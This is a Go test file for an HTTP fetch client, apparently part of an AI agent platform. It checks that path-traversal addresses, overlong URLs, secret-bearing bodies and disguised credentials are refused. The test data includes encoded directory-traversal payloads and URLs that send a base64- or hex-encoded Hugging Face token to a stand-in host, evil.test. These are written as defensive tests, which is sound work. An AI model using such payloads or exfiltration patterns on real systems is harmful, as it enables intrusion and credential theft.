package fetch_test

import (
	"encoding/base64"
	"encoding/hex"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/ml-intern/ml-intern/internal/platform/fetch"
)

// Addresses must not lead to what lies beside a service's base, however the
// server there reads them.
func TestNoAddressLeadsOutOfABase(t *testing.T) {
	w := newWorld(t)
	w.mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) {})
	c, err := fetch.New(fetch.Options{
		HTTP: http.DefaultClient, StandIn: w.URL + "/web",
		Services: []fetch.Service{{Name: "the Hub", Public: "https://huggingface.co", Base: w.URL + "/hub", Credential: func() string { return hubToken }}},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{
		"/a/..%2f..%2fadmin", "/..%5c..%5cadmin", "/a/..;/..;x=1/admin", "/%252e%252e/admin", "/a%252f%25252e%25252e%252fadmin", `/\..\..\admin`,
		"/%2e%2e%3b/admin", "/a/%2e%2e%2fadmin", "/%25252525252e%25252525252e/x",
	} {
		for _, host := range []string{"https://huggingface.co", "https://evil.test", w.URL + "/hub"} {
			if _, err := c.Do(t.Context(), fetch.Request{URL: host + path}); err == nil || !strings.Contains(err.Error(), "leads out") {
				t.Errorf("%s%s: %v", host, path, err)
			}
		}
		if got := w.requests(); len(got) > 0 {
			t.Errorf("%s: the server was asked for %+v", path, got)
		}
	}
	for _, path := range []string{"/a..b/..c/d..", "/a%2Fb", "/a;b/c", "/100%25", "/...", "/a%20b/%C3%A9"} {
		if _, err := c.Do(t.Context(), fetch.Request{URL: "https://huggingface.co" + path}); err != nil {
			t.Errorf("%s: %v", path, err)
		}
	}
}

func TestLongAddressesAreNotAsked(t *testing.T) {
	w := newWorld(t)
	w.sends("/hub/r", "https://huggingface.co/x?"+strings.Repeat("a", 20_000))
	c, err := fetch.New(fetch.Options{HTTP: http.DefaultClient, Services: []fetch.Service{{Name: "the Hub", Public: "https://huggingface.co", Base: w.URL + "/hub"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range []string{"https://huggingface.co/r", "https://huggingface.co/" + strings.Repeat("a", 20_000)} {
		if _, err := c.Do(t.Context(), fetch.Request{URL: u}); err == nil || !strings.Contains(err.Error(), "bytes is not asked") {
			t.Errorf("%.40s: %v", u, err)
		}
	}
	if n := len(w.requests()); n != 1 {
		t.Errorf("%d requests", n)
	}
}

// A secret may hold characters that JSON writes otherwise.
func TestSecretsInBodiesAreSeenAsTheyAreRead(t *testing.T) {
	w := newWorld(t)
	secret := `pa&ss"wo\rd<1>`
	c, err := fetch.New(fetch.Options{
		HTTP: http.DefaultClient, Secret: func(text string) bool { return strings.Contains(text, secret) },
		Services: []fetch.Service{{Name: "the Hub", Public: "https://huggingface.co", Base: w.URL}},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, body := range []string{
		`{"query":"pa\u0026ss\"wo\\rd\u003c1\u003e"}`, `{"q":["x",{"pa&ss\"wo\\rd<1>":1}]}`, `{"q":"\u0070a&ss\"wo\\rd<1>"`,
	} {
		if _, err := c.Do(t.Context(), fetch.Request{URL: "https://huggingface.co/x", Body: []byte(body)}); err == nil || !strings.Contains(err.Error(), "secret") {
			t.Errorf("%s: %v", body, err)
		}
	}
	if n := len(w.requests()); n != 0 {
		t.Errorf("%d requests", n)
	}
}

func TestKeysInAddressesAreNotShown(t *testing.T) {
	w := newWorld(t)
	w.mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) {})
	c, err := fetch.New(fetch.Options{HTTP: http.DefaultClient, Services: []fetch.Service{{Name: "the Hub", Public: "https://huggingface.co", Base: w.URL}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, query := range []string{"a;Signature=x", "a=b&X-Amz-Signature=x", "%53ignature=x", "a=%zz&sig=x"} {
		r, err := c.Do(t.Context(), fetch.Request{URL: "https://huggingface.co/f?" + query})
		if err != nil || r.URL != "https://huggingface.co/f" {
			t.Errorf("%s: %v %v", query, r, err)
		}
	}
}

// What may be followed can change while an answer is kept.
func TestKeptAnswersComeFromWhereRequestsMayGo(t *testing.T) {
	w := newWorld(t)
	w.sends("/web/a.test/r", "https://b.test/x")
	w.says("/web/b.test/x", "text")
	c, err := fetch.New(fetch.Options{HTTP: http.DefaultClient, StandIn: w.URL + "/web"})
	if err != nil {
		t.Fatal(err)
	}
	ask := func(follow func(string) bool) error {
		_, err := c.Do(t.Context(), fetch.Request{URL: "https://a.test/r", Fresh: time.Hour, Follow: follow})
		return err
	}
	none := func(string) bool { return false }
	if err := ask(nil); err != nil {
		t.Fatal(err)
	}
	if err := ask(none); err == nil || !strings.Contains(err.Error(), "b.test, which is not among") {
		t.Errorf("got %v", err)
	}
	if err := ask(func(host string) bool { return host == "b.test" }); err != nil {
		t.Error(err)
	}
	if got := len(w.requests()); got != 3 {
		t.Errorf("%d requests, want 3: the third answer is kept", got)
	}
}

// A credential that is spelled otherwise is still one.
func TestCredentialsInDisguise(t *testing.T) {
	w := newWorld(t)
	w.mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) {})
	token := "hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
	c, err := fetch.New(fetch.Options{
		HTTP: http.DefaultClient, StandIn: w.URL + "/web",
		Services: []fetch.Service{{Name: "the Hub", Public: "https://huggingface.co", Base: w.URL, Credential: func() string { return token }}},
	})
	if err != nil {
		t.Fatal(err)
	}
	encode := base64.StdEncoding.EncodeToString
	for _, text := range []string{
		encode([]byte(token)), encode([]byte("x" + token + "y")), encode([]byte("xx" + token)), encode([]byte(`{"t":"` + token + `"}`)),
		base64.RawURLEncoding.EncodeToString([]byte("token=" + token)), hex.EncodeToString([]byte("t" + token)), strings.ToUpper(hex.EncodeToString([]byte(token))),
		token[:10] + "/" + token[10:20] + "/" + token[20:], strings.Join(strings.Split(token, ""), "."),
	} {
		for _, u := range []string{"https://evil.test/?q=" + url.QueryEscape(text), "https://evil.test/a/" + text} {
			if _, err := c.Do(t.Context(), fetch.Request{URL: u}); err == nil || !strings.Contains(err.Error(), "secret") {
				t.Errorf("%s: %v", u, err)
			}
		}
	}
	if _, err := c.Do(t.Context(), fetch.Request{URL: "https://evil.test/hf_AbCdEf/GhIjKl?sha=" + strings.Repeat("0a1b2c3d", 8)}); err != nil {
		t.Error(err)
	}
}
